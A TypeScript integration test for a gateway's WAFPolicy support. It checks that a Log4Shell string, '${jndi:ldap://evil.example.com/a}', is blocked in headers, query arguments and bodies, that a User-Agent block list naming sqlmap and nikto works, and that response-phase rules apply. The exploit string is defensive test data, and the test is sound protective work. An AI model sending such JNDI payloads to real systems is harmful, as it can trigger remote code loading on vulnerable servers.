// WAFPolicy through the real stack (gloo-api-more.md §10, the Gloo workshop's Log4Shell rule): a request
// carrying `${jndi:ldap:…}` in a header, a query argument or a JSON body gets 403 with the policy's
// customInterventionMessage as text/plain; clean requests pass; what Portico does not enforce is named in status.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startEcho } from '../../../gateway/test/support/echo-upstream.ts';
import { send, startPolicyStack, upstreamAndRoutes } from '../support/policy-stack.ts';

test('WAFPolicy: Log4Shell custom rule → 403 with the intervention message; status names unsupported parts and the missing core rule set', async (t) => {
  const echo = await startEcho('echo');
  t.after(() => echo.close());
  const s = await startPolicyStack(t);
  await s.apply(
    upstreamAndRoutes(echo.port, [
      { name: 'protected', prefix: '/protected', labels: { waf: 'log4shell' } },
      { name: 'open', prefix: '/open' },
      { name: 'both', prefix: '/both', labels: { waf: 'log4shell', body: 'check' } },
      { name: 'headers-only', prefix: '/headers-only', labels: { waf: 'scanner' } },
      { name: 'resp-headers', prefix: '/resp-headers', labels: { waf: 'resp-headers' } },
      { name: 'resp-body', prefix: '/resp-body', labels: { waf: 'resp-body' } },
    ]) +
      `---
apiVersion: security.policy.gloo.solo.io/v2
kind: WAFPolicy
metadata: { name: log4shell, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { waf: log4shell } } }]
  config:
    disableCoreRuleSet: true
    customInterventionMessage: 'Log4Shell malicious payload'
    customRuleSets:
    - ruleStr: |
        SecRuleEngine On
        SecRequestBodyAccess On
        SecRule REQUEST_LINE|ARGS|ARGS_NAMES|REQUEST_COOKIES|REQUEST_COOKIES_NAMES|REQUEST_BODY|REQUEST_HEADERS|XML:/*|XML://@* \\
          "@rx \\\${jndi:(?:ldap|rmi|dns|iiop|https?):" \\
          "id:1000,phase:2,deny,status:403,log,msg:'Potential Remote Command Execution: Log4j CVE-2021-44228'"
---
apiVersion: admin.gloo.solo.io/v2
kind: ExtAuthServer
metadata: { name: with-body, namespace: ns }
spec: { requestBody: { maxRequestBytes: 1024 } }
---
apiVersion: v1
kind: ConfigMap
metadata: { name: body-check, namespace: ns }
data:
  policy.rego: |
    package bodycheck
    import rego.v1
    default allow := false
    allow if contains(input.http_request.body, "ok")
---
apiVersion: security.policy.gloo.solo.io/v2
kind: ExtAuthPolicy
metadata: { name: body-check, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { body: check } } }]
  config:
    server: { name: with-body }
    glooAuth: { configs: [{ opaAuth: { modules: [{ name: body-check, namespace: ns }], query: data.bodycheck.allow == true } }] }
---
apiVersion: security.policy.gloo.solo.io/v2
kind: WAFPolicy
metadata: { name: scanner, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { waf: scanner } } }]
  config:
    disableCoreRuleSet: true
    requestHeadersOnly: true
    customRuleSets: [{ ruleStr: 'SecRule REQUEST_HEADERS:User-Agent "@pm sqlmap nikto" "id:20,phase:1,deny,status:406,t:lowercase"' }]
---
apiVersion: security.policy.gloo.solo.io/v2
kind: WAFPolicy
metadata: { name: resp-headers, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { waf: resp-headers } } }]
  config:
    disableCoreRuleSet: true
    customInterventionMessage: upstream answer refused
    customRuleSets: [{ ruleStr: 'SecRule RESPONSE_HEADERS:X-Upstream "@streq echo" "id:30,phase:3,deny,status:502"' }]
---
apiVersion: security.policy.gloo.solo.io/v2
kind: WAFPolicy
metadata: { name: resp-body, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { waf: resp-body } } }]
  config:
    disableCoreRuleSet: true
    customRuleSets:
      - ruleStr: |
          SecResponseBodyAccess On
          SecRule RESPONSE_BODY "@contains secret-token" "id:31,phase:4,deny,status:500"
---
apiVersion: security.policy.gloo.solo.io/v2
kind: WAFPolicy
metadata: { name: crs-default, namespace: ns }
spec:
  applyToRoutes: [{ route: { labels: { waf: none } } }]
  config:
    customRuleSets: [{ ruleStr: 'SecRule ARGS "@detectSQLi" "id:1,deny"' }]
`,
  );
  const port = s.gateway.port;
  const payload = '${jndi:ldap://evil.example.com/a}';
  const viaHeader = await send(port, '/protected', { headers: { 'user-agent': payload } });
  assert.equal(viaHeader.status, 403);
  assert.equal(viaHeader.body, 'Log4Shell malicious payload');
  assert.match(String(viaHeader.headers['content-type']), /^text\/plain/);
  assert.equal((await send(port, `/protected?q=${encodeURIComponent(payload)}`)).status, 403);
  const viaBody = await send(port, '/protected', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: payload }) });
  assert.equal(viaBody.status, 403);
  assert.equal(echo.requests, 0, 'nothing malicious reached the upstream');

  const clean = await send(port, '/protected', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"ok"}' });
  assert.equal(clean.status, 200);
  assert.equal(JSON.parse(clean.body).body, '{"name":"ok"}', 'the inspected body is forwarded whole');
  assert.equal((await send(port, '/open', { headers: { 'user-agent': payload } })).status, 200, 'unselected route');
  // A rule set that never reads the body is checked without leaving the synchronous path.
  const scanner = await send(port, '/headers-only', { headers: { 'user-agent': 'Mozilla/5.0 SQLMap/1.7' } });
  assert.equal(scanner.status, 406);
  assert.equal((await send(port, '/headers-only', { headers: { 'user-agent': 'curl/8' } })).status, 200);
  // Response phases: phase 3 on the upstream's headers, phase 4 on its body (the echo repeats request headers).
  const refusedHead = await send(port, '/resp-headers');
  assert.deepEqual([refusedHead.status, refusedHead.body], [502, 'upstream answer refused']);
  const leaked = await send(port, '/resp-body', { headers: { 'x-leak': 'secret-token' } });
  assert.equal(leaked.status, 500);
  assert.equal(leaked.body, '', 'nothing of the refused body reaches the client');
  const clean2 = await send(port, '/resp-body', { headers: { 'x-leak': 'nothing' } });
  assert.equal(clean2.status, 200);
  assert.equal(JSON.parse(clean2.body).headers['x-leak'], 'nothing', 'a passing body is sent whole');
  // WAF and ext-auth on one route both see the body the WAF buffered.
  const both = await send(port, '/both', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"ok"}' });
  assert.equal(both.status, 200, both.body);
  assert.equal(JSON.parse(both.body).body, '{"name":"ok"}');
  assert.equal((await send(port, '/both', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"no"}' })).status, 403, 'ext-auth read the body');
  assert.equal((await send(port, '/both', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ok: payload }) })).status, 403, 'WAF first');
  assert.ok(s.logs.some((l) => l.rule_id === '1000' && l.waf_policy === 'ns.log4shell'), 'the denial is logged with the rule id');

  const st = (await s.status('WAFPolicy', 'ns', 'log4shell')) as { common: { State: { approval: string; message: string } }; numSelectedRoutes: number };
  assert.equal(st.common.State.approval, 'WARNING');
  assert.match(st.common.State.message, /variables XML:\/\*, XML:\/\/@\* are not supported/);
  assert.equal(st.numSelectedRoutes, 2);
  const crs = (await s.status('WAFPolicy', 'ns', 'crs-default')) as { common: { State: { approval: string; message: string } } };
  assert.equal(crs.common.State.approval, 'WARNING');
  assert.match(crs.common.State.message, /OWASP core rule set is not available/);
  assert.match(crs.common.State.message, /operator @detectSQLi is not supported/);
});
